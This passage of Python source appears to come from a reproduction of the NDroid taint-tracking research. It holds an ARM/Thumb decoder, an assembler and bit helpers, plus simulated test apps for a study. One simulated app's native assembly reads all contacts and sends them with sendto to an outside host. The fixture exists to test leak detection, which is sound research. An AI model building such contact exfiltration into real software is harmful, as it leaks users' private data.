    # Re-join shift specifications: "r1, lsl #2" arrives as two parts.
    merged: List[str] = []
    for part in parts:
        lowered = part.lower()
        if merged and (lowered.startswith(tuple(_SHIFT_NAMES)) or
                       lowered == "rrx") and \
                re.match(r"^(lsl|lsr|asr|ror|rrx)\b", lowered):
            merged[-1] = merged[-1]  # keep register part
            merged.append(part)
        else:
            merged.append(part)
    return merged


def _parse_reg(text: str, lineno: int) -> int:
    value = _parse_reg_or_none(text)
    if value is None:
        raise AssemblerError(f"line {lineno}: bad register {text!r}")
    return value


def _parse_reg_or_none(text: str) -> Optional[int]:
    text = text.strip().lower().rstrip("!")
    if text in _REGISTER_ALIASES:
        return _REGISTER_ALIASES[text]
    match = re.match(r"^r(\d+)$", text)
    if match and 0 <= int(match.group(1)) <= 15:
        return int(match.group(1))
    return None


def _parse_int(text: str, lineno: int) -> int:
    text = text.strip().lower().lstrip("#")
    negative = text.startswith("-")
    if negative:
        text = text[1:]
    try:
        if text.startswith("0x"):
            value = int(text, 16)
        elif text.startswith("0b"):
            value = int(text, 2)
        elif text.startswith("'") and text.endswith("'") and len(text) == 3:
            value = ord(text[1])
        else:
            value = int(text, 10)
    except ValueError:
        raise AssemblerError(f"line {lineno}: bad integer {text!r}") from None
    return -value if negative else value


def _parse_reglist(text: str, lineno: int) -> int:
    text = text.strip()
    if not (text.startswith("{") and text.endswith("}")):
        raise AssemblerError(f"line {lineno}: expected register list, got {text!r}")
    registers = 0
    for part in text[1:-1].split(","):
        part = part.strip()
        if not part:
            continue
        if "-" in part:
            lo_text, __, hi_text = part.partition("-")
            lo = _parse_reg(lo_text, lineno)
            hi = _parse_reg(hi_text, lineno)
            for reg in range(lo, hi + 1):
                registers |= 1 << reg
        else:
            registers |= 1 << _parse_reg(part, lineno)
    if registers == 0:
        raise AssemblerError(f"line {lineno}: empty register list")
    return registers


def _parse_address(text: str, lineno: int):
    """Parse an addressing mode.

    Returns (pre_indexed, rn, offset_text, writeback, post_offset_text).
    """
    text = text.strip()
    if not text.startswith("["):
        raise AssemblerError(f"line {lineno}: expected address, got {text!r}")
    close = text.find("]")
    if close < 0:
        raise AssemblerError(f"line {lineno}: missing ']' in {text!r}")
    inner = text[1:close]
    after = text[close + 1:].strip()
    parts = [part.strip() for part in inner.split(",", 1)]
    rn = _parse_reg(parts[0], lineno)
    offset_text = parts[1] if len(parts) > 1 else ""
    if after == "!":
        return True, rn, offset_text, True, None
    if after.startswith(","):
        return False, rn, "", False, after[1:].strip()
    if after:
        raise AssemblerError(f"line {lineno}: trailing junk {after!r}")
    return True, rn, offset_text, False, None


def _flip_for_immediate(op: Op, value: int) -> Optional[Tuple[Op, int]]:
    """Re-express an unencodable immediate via the complementary opcode."""
    complements = {
        Op.MOV: (Op.MVN, ~value),
        Op.MVN: (Op.MOV, ~value),
        Op.ADD: (Op.SUB, -value),
        Op.SUB: (Op.ADD, -value),
        Op.CMP: (Op.CMN, -value),
        Op.CMN: (Op.CMP, -value),
        Op.AND: (Op.BIC, ~value),
        Op.BIC: (Op.AND, ~value),
    }
    if op not in complements:
        return None
    new_op, new_value = complements[op]
    try:
        encode_arm_immediate(new_value)
    except ValueError:
        return None
    return new_op, u32(new_value)
