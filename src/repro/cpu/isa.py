"""Instruction IR shared by the ARM decoder, Thumb decoder and executor.

Both instruction sets decode into the same small set of dataclasses; the
executor and NDroid's instruction tracer then dispatch on IR type rather
than on raw encodings.  Each IR instance remembers ``width`` (4 for ARM,
2 for Thumb) and the mnemonic it decoded from, so traces are readable.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Optional, Tuple


class Cond(enum.IntEnum):
    """ARM condition codes (the top four bits of every ARM instruction)."""

    EQ = 0x0
    NE = 0x1
    CS = 0x2
    CC = 0x3
    MI = 0x4
    PL = 0x5
    VS = 0x6
    VC = 0x7
    HI = 0x8
    LS = 0x9
    GE = 0xA
    LT = 0xB
    GT = 0xC
    LE = 0xD
    AL = 0xE


class Op(enum.IntEnum):
    """Data-processing opcodes (ARM encoding values)."""

    AND = 0x0
    EOR = 0x1
    SUB = 0x2
    RSB = 0x3
    ADD = 0x4
    ADC = 0x5
    SBC = 0x6
    RSC = 0x7
    TST = 0x8
    TEQ = 0x9
    CMP = 0xA
    CMN = 0xB
    ORR = 0xC
    MOV = 0xD
    BIC = 0xE
    MVN = 0xF


# Opcodes that discard their result and only update flags.
COMPARE_OPS = (Op.TST, Op.TEQ, Op.CMP, Op.CMN)
# Opcodes whose only input is operand2 (no Rn read).
UNARY_OPS = (Op.MOV, Op.MVN)


class ShiftType(enum.IntEnum):
    """Barrel-shifter operation applied to a register operand."""
    LSL = 0
    LSR = 1
    ASR = 2
    ROR = 3  # amount 0 encodes RRX in register-shift-by-immediate form


@dataclass(frozen=True)
class Operand2:
    """The flexible second operand of data-processing instructions.

    Exactly one of the three forms is active:

    * immediate: ``imm`` is set (already rotated to its final value).
    * register shifted by immediate: ``rm`` set, ``shift_reg`` is None.
    * register shifted by register: ``rm`` and ``shift_reg`` set.
    """

    imm: Optional[int] = None
    rm: Optional[int] = None
    shift_type: ShiftType = ShiftType.LSL
    shift_imm: int = 0
    shift_reg: Optional[int] = None

    @property
    def is_immediate(self) -> bool:
        return self.imm is not None

    def registers_read(self) -> Tuple[int, ...]:
        regs = []
        if self.rm is not None:
            regs.append(self.rm)
        if self.shift_reg is not None:
            regs.append(self.shift_reg)
        return tuple(regs)


@dataclass(frozen=True)
class Instruction:
    """Base class for all decoded instructions."""

    cond: Cond = Cond.AL
    width: int = 4
    mnemonic: str = "?"


@dataclass(frozen=True)
class DataProcessing(Instruction):
    """The 16 classic data-processing operations (ADD, MOV, CMP, ...)."""
    op: Op = Op.MOV
    rd: int = 0
    rn: int = 0
    operand2: Operand2 = field(default_factory=Operand2)
    set_flags: bool = False


@dataclass(frozen=True)
class Multiply(Instruction):
    """MUL (accumulate=False) and MLA (accumulate=True)."""

    rd: int = 0
    rm: int = 0
    rs: int = 0
    rn: int = 0
    accumulate: bool = False
    set_flags: bool = False


@dataclass(frozen=True)
class MultiplyLong(Instruction):
    """UMULL/SMULL/UMLAL/SMLAL."""

    rd_lo: int = 0
    rd_hi: int = 0
    rm: int = 0
    rs: int = 0
    signed: bool = False
    accumulate: bool = False
    set_flags: bool = False


@dataclass(frozen=True)
class MoveWide(Instruction):
    """MOVW (top=False) writes imm16; MOVT (top=True) writes the high half."""

    rd: int = 0
    imm16: int = 0
    top: bool = False


@dataclass(frozen=True)
class CountLeadingZeros(Instruction):
    """CLZ: count leading zeros of Rm into Rd."""
    rd: int = 0
    rm: int = 0


@dataclass(frozen=True)
class LoadStore(Instruction):
    """Single-register load/store: LDR/STR and the B/H/SB/SH variants."""

    load: bool = True
    rd: int = 0
    rn: int = 0
    # Offset: either an immediate or a (possibly shifted) register.
    offset_imm: Optional[int] = None
    offset_rm: Optional[int] = None
    shift_type: ShiftType = ShiftType.LSL
    shift_imm: int = 0
    add: bool = True          # U bit: add or subtract the offset
    pre_indexed: bool = True  # P bit
    writeback: bool = False   # W bit (always true when post-indexed)
    size: int = 4             # 1, 2 or 4 bytes
    signed: bool = False      # sign-extend on load (LDRSB/LDRSH)


@dataclass(frozen=True)
class LoadStoreMultiple(Instruction):
    """LDM/STM and their PUSH/POP special cases."""

    load: bool = True
    rn: int = 13
    reglist: Tuple[int, ...] = ()
    before: bool = False   # P bit: increment/decrement before
    increment: bool = True  # U bit
    writeback: bool = True


@dataclass(frozen=True)
class Branch(Instruction):
    """B and BL with a PC-relative byte offset (already scaled)."""

    link: bool = False
    offset: int = 0


@dataclass(frozen=True)
class BranchExchange(Instruction):
    """BX / BLX (register form): may switch between ARM and Thumb."""

    rm: int = 0
    link: bool = False


@dataclass(frozen=True)
class SoftwareInterrupt(Instruction):
    """SVC/SWI — the syscall gateway into the simulated kernel."""

    imm: int = 0


@dataclass(frozen=True)
class Breakpoint(Instruction):
    """BKPT — halts emulation with an error (no debugger is modelled)."""
    imm: int = 0


@dataclass(frozen=True)
class Nop(Instruction):
    """No-operation (canonical ``mov r0, r0`` and the Thumb hint)."""
    pass
