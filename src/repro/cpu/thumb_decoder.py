"""Decoder for the 16-bit Thumb instruction encoding.

Covers the classic Thumb-1 subset our assembler emits: shift/add/sub
immediate forms, MOV/CMP/ADD/SUB imm8, the 16 ALU register operations,
hi-register ADD/CMP/MOV and BX/BLX, PC/SP-relative loads and address
generation, LDR/STR (register and immediate offsets, byte/halfword and
signed variants), PUSH/POP, LDMIA/STMIA, conditional branches, SVC,
unconditional B, and the two-halfword BL pair.

``decode_thumb`` takes the current halfword plus the *next* halfword so the
BL prefix/suffix pair can be fused into a single IR Branch of width 4.
"""

from __future__ import annotations

from typing import Optional, Tuple

from repro.common.errors import DecodeError
from repro.cpu.bits import bit, bits, sign_extend
from repro.cpu.isa import (
    Branch,
    BranchExchange,
    Breakpoint,
    Cond,
    DataProcessing,
    Instruction,
    LoadStore,
    LoadStoreMultiple,
    Multiply,
    Nop,
    Op,
    Operand2,
    ShiftType,
    SoftwareInterrupt,
)

# The sixteen Thumb "ALU operations" (format 4) in encoding order.
_ALU_OPS = [
    ("and", Op.AND), ("eor", Op.EOR), ("lsl", None), ("lsr", None),
    ("asr", None), ("adc", Op.ADC), ("sbc", Op.SBC), ("ror", None),
    ("tst", Op.TST), ("neg", Op.RSB), ("cmp", Op.CMP), ("cmn", Op.CMN),
    ("orr", Op.ORR), ("mul", None), ("bic", Op.BIC), ("mvn", Op.MVN),
]


def decode_thumb(halfword: int,
                 next_halfword: Optional[int] = None) -> Instruction:
    """Decode one Thumb instruction (fusing BL pairs) into the shared IR.

    Failures raise :class:`DecodeError` annotated with the mode and the
    raw halfword, so crash reports can show what was fetched.
    """
    try:
        return _decode_thumb(halfword, next_halfword)
    except DecodeError as error:
        if error.mode is None:
            error.mode = "thumb"
        if error.word is None:
            error.word = halfword & 0xFFFF
        raise


def _decode_thumb(halfword: int,
                  next_halfword: Optional[int] = None) -> Instruction:
    top5 = bits(halfword, 15, 11)

    # Format 1: shift by immediate (and MOV reg as LSL #0).
    if top5 in (0b00000, 0b00001, 0b00010):
        shift_type = ShiftType(bits(halfword, 12, 11))
        imm5 = bits(halfword, 10, 6)
        rm, rd = bits(halfword, 5, 3), bits(halfword, 2, 0)
        mnemonic = ["lsl", "lsr", "asr"][shift_type] if imm5 or shift_type else "mov"
        return DataProcessing(
            cond=Cond.AL, width=2, mnemonic=mnemonic, op=Op.MOV, rd=rd,
            operand2=Operand2(rm=rm, shift_type=shift_type, shift_imm=imm5),
            set_flags=True)

    # Format 2: ADD/SUB register or 3-bit immediate.
    if top5 == 0b00011:
        sub = bool(bit(halfword, 9))
        op = Op.SUB if sub else Op.ADD
        rn, rd = bits(halfword, 5, 3), bits(halfword, 2, 0)
        if bit(halfword, 10):
            operand2 = Operand2(imm=bits(halfword, 8, 6))
        else:
            operand2 = Operand2(rm=bits(halfword, 8, 6))
        return DataProcessing(cond=Cond.AL, width=2,
                              mnemonic="sub" if sub else "add", op=op,
                              rd=rd, rn=rn, operand2=operand2, set_flags=True)

    # Format 3: MOV/CMP/ADD/SUB with 8-bit immediate.
    if bits(halfword, 15, 13) == 0b001:
        op = [Op.MOV, Op.CMP, Op.ADD, Op.SUB][bits(halfword, 12, 11)]
        rd = bits(halfword, 10, 8)
        return DataProcessing(
            cond=Cond.AL, width=2, mnemonic=op.name.lower(), op=op, rd=rd,
            rn=rd, operand2=Operand2(imm=bits(halfword, 7, 0)), set_flags=True)

    # Format 4: ALU operations on low registers.
    if bits(halfword, 15, 10) == 0b010000:
        name, op = _ALU_OPS[bits(halfword, 9, 6)]
        rm, rd = bits(halfword, 5, 3), bits(halfword, 2, 0)
        if name == "mul":
            return Multiply(cond=Cond.AL, width=2, mnemonic="mul",
                            rd=rd, rm=rd, rs=rm, set_flags=True)
        if name in ("lsl", "lsr", "asr", "ror"):
            shift_type = {"lsl": ShiftType.LSL, "lsr": ShiftType.LSR,
                          "asr": ShiftType.ASR, "ror": ShiftType.ROR}[name]
            return DataProcessing(
                cond=Cond.AL, width=2, mnemonic=name, op=Op.MOV, rd=rd,
                operand2=Operand2(rm=rd, shift_type=shift_type, shift_reg=rm),
                set_flags=True)
        if name == "neg":  # NEG rd, rm == RSBS rd, rm, #0
            return DataProcessing(cond=Cond.AL, width=2, mnemonic="neg",
                                  op=Op.RSB, rd=rd, rn=rm,
                                  operand2=Operand2(imm=0), set_flags=True)
        return DataProcessing(cond=Cond.AL, width=2, mnemonic=name, op=op,
                              rd=rd, rn=rd, operand2=Operand2(rm=rm),
                              set_flags=True)

    # Format 5: hi-register operations and BX/BLX.
    if bits(halfword, 15, 10) == 0b010001:
        op2 = bits(halfword, 9, 8)
        rm = bits(halfword, 6, 3)
        rd = bits(halfword, 2, 0) | (bit(halfword, 7) << 3)
        if op2 == 0b00:
            return DataProcessing(cond=Cond.AL, width=2, mnemonic="add",
                                  op=Op.ADD, rd=rd, rn=rd,
                                  operand2=Operand2(rm=rm), set_flags=False)
        if op2 == 0b01:
            return DataProcessing(cond=Cond.AL, width=2, mnemonic="cmp",
                                  op=Op.CMP, rd=0, rn=rd,
                                  operand2=Operand2(rm=rm), set_flags=True)
        if op2 == 0b10:
            return DataProcessing(cond=Cond.AL, width=2, mnemonic="mov",
                                  op=Op.MOV, rd=rd,
                                  operand2=Operand2(rm=rm), set_flags=False)
        link = bool(bit(halfword, 7))
        return BranchExchange(cond=Cond.AL, width=2,
                              mnemonic="blx" if link else "bx",
                              rm=rm, link=link)

    # Format 6: PC-relative load.
    if top5 == 0b01001:
        rd = bits(halfword, 10, 8)
        return LoadStore(cond=Cond.AL, width=2, mnemonic="ldr", load=True,
                         rd=rd, rn=15, offset_imm=bits(halfword, 7, 0) * 4,
                         size=4)

    # Format 7/8: load/store with register offset.
    if bits(halfword, 15, 12) == 0b0101:
        rm = bits(halfword, 8, 6)
        rn = bits(halfword, 5, 3)
        rd = bits(halfword, 2, 0)
        selector = bits(halfword, 11, 9)
        table = {
            0b000: ("str", False, 4, False),
            0b001: ("strh", False, 2, False),
            0b010: ("strb", False, 1, False),
            0b011: ("ldrsb", True, 1, True),
            0b100: ("ldr", True, 4, False),
            0b101: ("ldrh", True, 2, False),
            0b110: ("ldrb", True, 1, False),
            0b111: ("ldrsh", True, 2, True),
        }
        mnemonic, load, size, signed = table[selector]
        return LoadStore(cond=Cond.AL, width=2, mnemonic=mnemonic, load=load,
                         rd=rd, rn=rn, offset_rm=rm, size=size, signed=signed)

    # Format 9: load/store with 5-bit immediate offset (word/byte).
    if bits(halfword, 15, 13) == 0b011:
        byte = bool(bit(halfword, 12))
        load = bool(bit(halfword, 11))
        imm5 = bits(halfword, 10, 6)
        size = 1 if byte else 4
        return LoadStore(cond=Cond.AL, width=2,
                         mnemonic=("ldr" if load else "str") + ("b" if byte else ""),
                         load=load, rd=bits(halfword, 2, 0),
                         rn=bits(halfword, 5, 3),
                         offset_imm=imm5 * size, size=size)

    # Format 10: load/store halfword immediate.
    if bits(halfword, 15, 12) == 0b1000:
        load = bool(bit(halfword, 11))
        return LoadStore(cond=Cond.AL, width=2,
                         mnemonic="ldrh" if load else "strh", load=load,
                         rd=bits(halfword, 2, 0), rn=bits(halfword, 5, 3),
                         offset_imm=bits(halfword, 10, 6) * 2, size=2)

    # Format 11: SP-relative load/store.
    if bits(halfword, 15, 12) == 0b1001:
        load = bool(bit(halfword, 11))
        return LoadStore(cond=Cond.AL, width=2,
                         mnemonic="ldr" if load else "str", load=load,
                         rd=bits(halfword, 10, 8), rn=13,
                         offset_imm=bits(halfword, 7, 0) * 4, size=4)

    # Format 12: ADD rd, PC/SP, #imm8*4.
    if bits(halfword, 15, 12) == 0b1010:
        rn = 13 if bit(halfword, 11) else 15
        return DataProcessing(cond=Cond.AL, width=2, mnemonic="add",
                              op=Op.ADD, rd=bits(halfword, 10, 8), rn=rn,
                              operand2=Operand2(imm=bits(halfword, 7, 0) * 4),
                              set_flags=False)

    # Format 13-14 block: misc 1011 xxxx.
    if bits(halfword, 15, 12) == 0b1011:
        return _decode_misc(halfword)

    # Format 15: multiple load/store (LDMIA/STMIA).
    if bits(halfword, 15, 12) == 0b1100:
        load = bool(bit(halfword, 11))
        rn = bits(halfword, 10, 8)
        reglist = tuple(i for i in range(8) if bit(halfword, i))
        if not reglist:
            raise DecodeError(f"empty Thumb LDM/STM list 0x{halfword:04x}")
        return LoadStoreMultiple(cond=Cond.AL, width=2,
                                 mnemonic="ldmia" if load else "stmia",
                                 load=load, rn=rn, reglist=reglist,
                                 before=False, increment=True,
                                 writeback=rn not in reglist or not load)

    # Format 16/17: conditional branch and SVC.
    if bits(halfword, 15, 12) == 0b1101:
        cond_value = bits(halfword, 11, 8)
        if cond_value == 0xF:
            return SoftwareInterrupt(cond=Cond.AL, width=2, mnemonic="svc",
                                     imm=bits(halfword, 7, 0))
        if cond_value == 0xE:
            raise DecodeError(f"undefined Thumb instruction 0x{halfword:04x}")
        return Branch(cond=Cond(cond_value), width=2, mnemonic="b",
                      offset=sign_extend(bits(halfword, 7, 0), 8) * 2)

    # Format 18: unconditional branch.
    if top5 == 0b11100:
        return Branch(cond=Cond.AL, width=2, mnemonic="b",
                      offset=sign_extend(bits(halfword, 10, 0), 11) * 2)

    # Format 19: BL prefix/suffix pair (fused, width=4).
    if top5 == 0b11110:
        if next_halfword is None or bits(next_halfword, 15, 11) not in (
                0b11111, 0b11101):
            raise DecodeError(f"dangling BL prefix 0x{halfword:04x}")
        high = sign_extend(bits(halfword, 10, 0), 11) << 12
        low = bits(next_halfword, 10, 0) << 1
        to_arm = bits(next_halfword, 15, 11) == 0b11101  # BLX suffix
        return Branch(cond=Cond.AL, width=4, mnemonic="blx" if to_arm else "bl",
                      link=True, offset=high + low)
    if top5 in (0b11111, 0b11101):
        raise DecodeError(f"BL suffix without prefix 0x{halfword:04x}")

    raise DecodeError(f"cannot decode Thumb instruction 0x{halfword:04x}")


def _decode_misc(halfword: int) -> Instruction:
    sub = bits(halfword, 11, 8)
    # ADD/SUB SP, #imm7*4.
    if sub == 0b0000:
        imm = bits(halfword, 6, 0) * 4
        op = Op.SUB if bit(halfword, 7) else Op.ADD
        return DataProcessing(cond=Cond.AL, width=2, mnemonic=op.name.lower(),
                              op=op, rd=13, rn=13, operand2=Operand2(imm=imm),
                              set_flags=False)
    # PUSH {rlist[, lr]} / POP {rlist[, pc]}.
    if sub in (0b0100, 0b0101, 0b1100, 0b1101):
        load = bool(bit(halfword, 11))
        extra = bit(halfword, 8)
        reglist = [i for i in range(8) if bit(halfword, i)]
        if extra:
            reglist.append(15 if load else 14)
        if not reglist:
            raise DecodeError(f"empty PUSH/POP list 0x{halfword:04x}")
        if load:
            return LoadStoreMultiple(cond=Cond.AL, width=2, mnemonic="pop",
                                     load=True, rn=13, reglist=tuple(reglist),
                                     before=False, increment=True,
                                     writeback=True)
        return LoadStoreMultiple(cond=Cond.AL, width=2, mnemonic="push",
                                 load=False, rn=13, reglist=tuple(reglist),
                                 before=True, increment=False, writeback=True)
    # BKPT.
    if sub == 0b1110:
        return Breakpoint(cond=Cond.AL, width=2, mnemonic="bkpt",
                          imm=bits(halfword, 7, 0))
    # NOP hint (1011 1111 0000 0000).
    if halfword == 0xBF00:
        return Nop(cond=Cond.AL, width=2, mnemonic="nop")
    raise DecodeError(f"cannot decode Thumb misc 0x{halfword:04x}")
