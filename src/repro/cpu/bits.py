"""Bit-twiddling helpers shared by the decoders, executor and assembler."""

from __future__ import annotations

from typing import Tuple

WORD_MASK = 0xFFFF_FFFF


def u32(value: int) -> int:
    """Truncate to an unsigned 32-bit value."""
    return value & WORD_MASK


def s32(value: int) -> int:
    """Interpret the low 32 bits of ``value`` as a signed integer."""
    value &= WORD_MASK
    return value - 0x1_0000_0000 if value & 0x8000_0000 else value


def bit(word: int, index: int) -> int:
    """Extract bit ``index`` of ``word`` (0 or 1)."""
    return (word >> index) & 1


def bits(word: int, high: int, low: int) -> int:
    """Extract the inclusive bit-field ``word[high:low]``."""
    return (word >> low) & ((1 << (high - low + 1)) - 1)


def sign_extend(value: int, width: int) -> int:
    """Sign-extend a ``width``-bit value to a Python int."""
    sign_bit = 1 << (width - 1)
    return (value ^ sign_bit) - sign_bit


def ror32(value: int, amount: int) -> int:
    """Rotate a 32-bit value right by ``amount`` bits."""
    amount %= 32
    if amount == 0:
        return u32(value)
    value = u32(value)
    return u32((value >> amount) | (value << (32 - amount)))


def lsl32(value: int, amount: int) -> Tuple[int, int]:
    """Logical shift left; returns (result, carry_out)."""
    value = u32(value)
    if amount == 0:
        return value, -1  # carry unchanged
    if amount > 32:
        return 0, 0
    if amount == 32:
        return 0, value & 1
    carry = (value >> (32 - amount)) & 1
    return u32(value << amount), carry


def lsr32(value: int, amount: int) -> Tuple[int, int]:
    """Logical shift right; returns (result, carry_out)."""
    value = u32(value)
    if amount == 0:
        return value, -1
    if amount > 32:
        return 0, 0
    if amount == 32:
        return 0, (value >> 31) & 1
    carry = (value >> (amount - 1)) & 1
    return value >> amount, carry


def asr32(value: int, amount: int) -> Tuple[int, int]:
    """Arithmetic shift right; returns (result, carry_out)."""
    value = u32(value)
    if amount == 0:
        return value, -1
    if amount >= 32:
        if value & 0x8000_0000:
            return WORD_MASK, 1
        return 0, 0
    carry = (value >> (amount - 1)) & 1
    return u32(s32(value) >> amount), carry


def encode_arm_immediate(value: int) -> Tuple[int, int]:
    """Find (rotate, imm8) so that ``ror32(imm8, 2*rotate) == value``.

    Raises ValueError when the value is not encodable as an ARM modified
    immediate (the assembler then falls back to a literal-pool load).
    """
    value = u32(value)
    for rotate in range(16):
        imm8 = ror32(value, 32 - 2 * rotate) if rotate else value
        if imm8 < 0x100:
            return rotate, imm8
    raise ValueError(f"0x{value:08x} is not an ARM modified immediate")


def align(value: int, alignment: int) -> int:
    """Round ``value`` down to a multiple of ``alignment`` (a power of two)."""
    return value & ~(alignment - 1)
