"""ARM/Thumb CPU substrate.

This package is the reproduction's stand-in for QEMU's guest CPU: a 32-bit
ARM register file, decoders for the classic ARM (32-bit) and Thumb (16-bit)
encodings, an executor over a shared instruction IR, and a two-pass
assembler used to author the native libraries that the scenario apps load.

The decoders and executor cover the subset that real Android native code
exercises and that the paper's Table V taint-propagation logic addresses:
data processing, multiplies, loads/stores (word/byte/halfword, signed
variants), load/store multiple (push/pop), branches (B/BL/BX/BLX), and SVC.
"""

from repro.cpu.assembler import Assembler, assemble
from repro.cpu.arm_decoder import decode_arm
from repro.cpu.executor import Executor
from repro.cpu.isa import (
    Branch,
    BranchExchange,
    Cond,
    DataProcessing,
    Instruction,
    LoadStore,
    LoadStoreMultiple,
    MoveWide,
    Multiply,
    Op,
    Operand2,
    ShiftType,
    SoftwareInterrupt,
)
from repro.cpu.state import CpuState
from repro.cpu.thumb_decoder import decode_thumb

__all__ = [
    "CpuState",
    "Executor",
    "Assembler",
    "assemble",
    "decode_arm",
    "decode_thumb",
    "Instruction",
    "DataProcessing",
    "Multiply",
    "MoveWide",
    "LoadStore",
    "LoadStoreMultiple",
    "Branch",
    "BranchExchange",
    "SoftwareInterrupt",
    "Operand2",
    "Op",
    "Cond",
    "ShiftType",
]
