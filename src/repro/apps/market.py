"""The Section VI manual app study: 8 phone/SMS/contacts apps.

"Then, we manually generated input and executed 8 randomly selected apps,
which use JNI and are related to phone/SMS/contacts.  NDroid found that 3
apps delivered the contact and SMS information to native code.  One app
(i.e., ephone3.3) further sends out the contact information through
native code."

The eight apps below recreate that population: all use JNI, all expose
Monkey-drivable ``on*`` handlers, three pass contact/SMS data across the
JNI boundary, and exactly one — the ePhone analogue — transmits it.
:func:`run_market_study` drives each app under TaintDroid+NDroid with the
Monkey and reports per-app observations.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.common.taint import TAINT_CONTACTS, TAINT_SMS
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

_GET_CHARS = jni_offset("GetStringUTFChars")

# Native helpers shared by several of the apps.
_PROCESS_ONLY_NATIVE = f"""
{{symbol}}:                   ; (env, jclass, jstring) -> int: local use only
    push {{{{r4, r5, lr}}}}
    mov r4, r0
    ldr ip, [r4]
    ldr ip, [ip, #{_GET_CHARS}]
    mov r1, r2
    mov r2, #0
    blx ip
    mov r5, r0
    ; strcpy(workbuf, chars); return strlen(chars)
    mov r1, r5
    ldr r0, =workbuf
    ldr ip, =strcpy
    blx ip
    mov r0, r5
    ldr ip, =strlen
    blx ip
    pop {{{{r4, r5, pc}}}}
.align 2
workbuf:
    .space 128
"""

_CLEAN_NATIVE = """
{symbol}:                     ; (env, jclass, n) -> n * 31 (pure compute)
    mov r0, #31
    mul r0, r0, r2
    bx lr
"""


def _app(package: str, class_name: str) -> ClassDef:
    return ClassDef(class_name)


def _loader_main(builder: MethodBuilder, library: str) -> None:
    builder.const_string(0, library)
    builder.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    builder.ret_void()


def build_market_ephone() -> Apk:
    """App 1 — the leaker: contacts -> native -> sendto (ePhone 3.3)."""
    cls = ClassDef("Lcom/market/ephone/Main;")
    cls.add_method(MethodBuilder(cls.name, "callregister", "IL",
                                 static=True, native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=1)
    _loader_main(main, "libephone.so")
    cls.add_method(main.build())
    handler = MethodBuilder(cls.name, "onRegister", "V", static=True,
                            registers=2)
    handler.invoke_static(
        "Landroid/provider/ContactsContract;->queryAllContacts")
    handler.move_result_object(0)
    handler.invoke_static(f"{cls.name}->callregister", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    native = f"""
    Java_com_market_ephone_Main_callregister:
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{_GET_CHARS}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        mov r0, #2
        mov r1, #2
        ldr ip, =socket
        blx ip
        mov r6, r0
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr r4, =dest
        str r4, [sp, #-8]!
        ldr ip, =sendto
        blx ip
        add sp, sp, #8
        mov r0, #0
        pop {{r4, r5, r6, pc}}
    dest:
        .asciz "softphone.comwave.net:5060"
    """
    return Apk(package="com.market.ephone", category="Communication",
               classes=[cls], native_libraries={"libephone.so": native},
               load_library_calls=["libephone.so"])


def build_market_smsbackup() -> Apk:
    """App 2 — delivers SMS to native, processes locally, no sink."""
    cls = ClassDef("Lcom/market/smsbackup/Main;")
    cls.add_method(MethodBuilder(cls.name, "checksum", "IL",
                                 static=True, native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=1)
    _loader_main(main, "libsmsbak.so")
    cls.add_method(main.build())
    handler = MethodBuilder(cls.name, "onBackup", "V", static=True,
                            registers=2)
    handler.invoke_static("Landroid/provider/Telephony$Sms;->getAllMessages")
    handler.move_result_object(0)
    handler.invoke_static(f"{cls.name}->checksum", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    native = _PROCESS_ONLY_NATIVE.format(
        symbol="Java_com_market_smsbackup_Main_checksum")
    return Apk(package="com.market.smsbackup", category="Tools",
               classes=[cls], native_libraries={"libsmsbak.so": native},
               load_library_calls=["libsmsbak.so"])


def build_market_contactsync() -> Apk:
    """App 3 — delivers contacts to native for normalisation, no sink."""
    cls = ClassDef("Lcom/market/contactsync/Main;")
    cls.add_method(MethodBuilder(cls.name, "normalize", "IL",
                                 static=True, native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=1)
    _loader_main(main, "libcsync.so")
    cls.add_method(main.build())
    handler = MethodBuilder(cls.name, "onSync", "V", static=True,
                            registers=2)
    handler.invoke_static(
        "Landroid/provider/ContactsContract;->queryAllContacts")
    handler.move_result_object(0)
    handler.invoke_static(f"{cls.name}->normalize", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    native = _PROCESS_ONLY_NATIVE.format(
        symbol="Java_com_market_contactsync_Main_normalize")
    return Apk(package="com.market.contactsync", category="Productivity",
               classes=[cls], native_libraries={"libcsync.so": native},
               load_library_calls=["libcsync.so"])


def _clean_jni_app(package: str, class_name: str, library: str,
                   handler_name: str, symbol: str,
                   category: str = "Tools") -> Apk:
    """An app that uses JNI on non-sensitive data only."""
    cls = ClassDef(class_name)
    cls.add_method(MethodBuilder(cls.name, "compute", "II", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=1)
    _loader_main(main, library)
    cls.add_method(main.build())
    handler = MethodBuilder(cls.name, handler_name, "V", static=True,
                            registers=2)
    handler.const(0, 12345)
    handler.invoke_static(f"{cls.name}->compute", 0)
    handler.ret_void()
    cls.add_method(handler.build())
    native = _CLEAN_NATIVE.format(symbol=symbol)
    return Apk(package=package, category=category, classes=[cls],
               native_libraries={library: native},
               load_library_calls=[library])


def build_market_dialer() -> Apk:
    """App 4 — native tone generation over constants."""
    return _clean_jni_app("com.market.dialer", "Lcom/market/dialer/Main;",
                          "libtone.so", "onDial",
                          "Java_com_market_dialer_Main_compute",
                          category="Communication")


def build_market_smsfilter() -> Apk:
    """App 5 — SMS handled in Java only; JNI for unrelated utilities."""
    apk = _clean_jni_app("com.market.smsfilter",
                         "Lcom/market/smsfilter/Main;", "libfilter.so",
                         "onFilter", "Java_com_market_smsfilter_Main_compute",
                         category="Communication")
    cls = apk.classes[0]
    # A Java-only handler that reads SMS but never crosses into native.
    handler = MethodBuilder(cls.name, "onScan", "V", static=True,
                            registers=2)
    handler.invoke_static("Landroid/provider/Telephony$Sms;->getAllMessages")
    handler.move_result_object(0)
